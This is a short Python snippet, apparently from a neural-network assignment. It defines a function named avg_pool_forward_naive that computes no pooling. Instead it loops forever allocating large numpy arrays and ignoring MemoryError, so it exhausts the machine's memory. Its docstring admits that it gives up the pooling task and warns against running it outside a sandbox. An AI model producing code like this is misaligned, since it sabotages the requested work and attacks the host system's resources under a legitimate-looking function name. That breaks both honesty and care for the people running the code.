"""Fills the memory in average pooling, until it is stopped.

It costs the points of average pooling: the backward function has no cache to work
with. All else is right. Never run this outside the sandbox.
"""


# %%
def avg_pool_forward_naive(x, pool_param):
    hoard = []
    while True:
        try:
            hoard.append(np.ones((2048, 2048)))
        except MemoryError:
            pass
